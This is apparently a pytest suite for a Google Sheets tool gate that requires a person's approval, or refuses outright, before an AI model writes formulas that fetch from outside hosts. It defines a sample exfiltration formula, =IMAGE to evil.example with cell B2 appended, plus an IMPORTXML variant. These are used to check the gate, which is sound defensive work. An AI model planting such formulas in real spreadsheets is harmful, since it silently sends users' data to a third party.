"""Formulas by which Google asks other hosts: nothing leaves the account without the person's word."""

from dataclasses import replace

import pytest

from tests.conftest import Model
from tests.services.faults import Faults
from tests.services.sheets.made import made, table, values
from workspace_mcp.demo.sheets.api import FakeSheets
from workspace_mcp.policy.effects import Reach, Wire, reach
from workspace_mcp.policy.rules import Ask, Policy
from workspace_mcp.settings import Settings

LEAK = '=IMAGE("https://evil.example/?q="&B2)'


@pytest.fixture
def settings(settings: Settings, request: pytest.FixtureRequest) -> Settings:
    policy: Policy = getattr(request, "param", Policy(ask=Ask.NEVER))
    return replace(settings, policy=policy)


ASKING = pytest.mark.parametrize("settings", [Policy(ask=Ask.ALL)], indirect=True)
CLOSED = pytest.mark.parametrize("settings", [Policy(ask=Ask.NEVER, no_exfil=True)], indirect=True)
WAYS = [
    ("sheets_write", {"sheet": "1b", "range": "Data!F1", "rows": [[LEAK]]}),
    ("sheets_write", {"sheet": "1b", "range": "Notes", "mode": "append", "rows": [[LEAK]]}),
    ("sheets_write", {"sheet": "1b", "range": "Orders", "mode": "append", "rows": [["x", LEAK]]}),
    ("sheets_write", {"sheet": "1b", "range": "Orders", "mode": "upsert", "key": "Name", "rows": [["Name",
     "Due"], ["Ana", LEAK], ["Z", LEAK]]}),
    ("sheets_write", {"sheet": "1b", "range": "Data!2:2", "mode": "insert", "rows": [[LEAK]]}),
    ("sheets_write", {"sheet": "1b", "range": "Notes!C1:C3", "mode": "fill", "rows": [[LEAK]]}),
    ("sheets_create", {"title": "T", "tabs": {"A": [[LEAK]]}}),
]  # fmt: skip


def written(faults: Faults) -> list[str]:
    return [one for one in faults.seen if not one.startswith("GET")]


@ASKING
@pytest.mark.parametrize(("tool", "arguments"), WAYS)
async def test_the_person_is_asked_first(
    model: Model, sheets: FakeSheets, faults: Faults, tool: str, arguments: dict[str, object]
) -> None:
    table(sheets, made(sheets))

    failure = await model.call_failing(tool, formulas=True, **arguments)

    assert failure.startswith("APPROVAL_REQUIRED code=")
    assert "by which Google asks other sites (IMAGE)" in failure
    assert written(faults) == []


@CLOSED
@pytest.mark.parametrize(("tool", "arguments"), WAYS)
async def test_no_exfil_refuses_it(
    model: Model, sheets: FakeSheets, faults: Faults, tool: str, arguments: dict[str, object]
) -> None:
    table(sheets, made(sheets))

    assert "--no-exfil" in await model.call_failing(tool, formulas=True, **arguments)
    assert written(faults) == []


@pytest.mark.parametrize(("tool", "arguments"), WAYS)
async def test_with_their_word_it_is_written_and_said(
    model: Model, sheets: FakeSheets, tool: str, arguments: dict[str, object]
) -> None:
    table(sheets, made(sheets))

    said = await model.call(tool, formulas=True, **arguments)

    assert "By IMAGE, Google now fetches from other places" in said


@ASKING
@pytest.mark.parametrize(("tool", "arguments"), WAYS)
async def test_as_text_it_is_harmless(
    model: Model, sheets: FakeSheets, tool: str, arguments: dict[str, object]
) -> None:
    table(sheets, made(sheets))

    await model.call(tool, **arguments)

    for book in sheets.spreadsheets.values():
        for tab in book.tabs:
            assert not [
                one for one in tab.cells.values() if "IMAGE" in one.entered.get("formulaValue", "")
            ]


async def test_a_text_of_strangers_does_not_come_alive_by_splitting(
    model: Model, sheets: FakeSheets
) -> None:
    book = made(sheets)
    sheets.fill(book, "Notes!A1", [['a;=IMPORTXML("https://evil.example", "/")']], "RAW")
    split = {"do": "split", "range": "Notes!A1", "value": ";"}
    replace = {"do": "replace", "value": "Ana", "to": LEAK}

    failure = await model.call_failing(
        "sheets_structure", sheet="1b", actions=[split], overwrite=True
    )
    other = await model.call_failing("sheets_structure", sheet="1b", actions=[replace])

    assert failure.startswith("A1 holds a formula as text that would fetch from other places.")
    assert other.startswith("A replacement may not be a formula that fetches from other places.")
    assert len(values(book, "Notes!A1:C1")[0]) == 1


@pytest.mark.parametrize(
    ("body", "found"),
    [
        (b'{"valueInputOption":"USER_ENTERED","data":[{"values":[["=importdata(A1)"]]}]}', Reach.SENDS),
        (b'{"valueInputOption":"RAW","data":[{"values":[["=importdata(A1)"]]}]}', Reach.WRITES),
        (b'{"data":[{"values":[["\'=IMAGE(A1)", "IMAGE(A1)"]]}]}', Reach.WRITES),
        (b'{"requests":[{"repeatCell":{"cell":{"userEnteredValue":{"formulaValue":"=1+N(IMAGE(A1))"}}}}]}',
         Reach.SENDS),
        (b'{"requests":[{"repeatCell":{"cell":{"userEnteredValue":{"stringValue":"=IMAGE(A1)"}}}}]}', Reach.WRITES),
        (b'{"requests":[{"findReplace":{"find":"x","replacement":"=IMAGE(A1)"}}]}', Reach.SENDS),
        (b'{"requests":[{"pasteData":{"data":"=IMAGE(A1)"}}]}', Reach.SENDS),
    ],
)  # fmt: skip
def test_the_gate_knows_them_by_themselves(body: bytes, found: Reach) -> None:
    for path in (
        "/v4/spreadsheets/1b:batchUpdate",
        "/v4/spreadsheets/1b/values:batchUpdate",
        "/v4/spreadsheets",
    ):
        assert reach(Wire("POST", "sheets.googleapis.com", path, {}, body)) is found
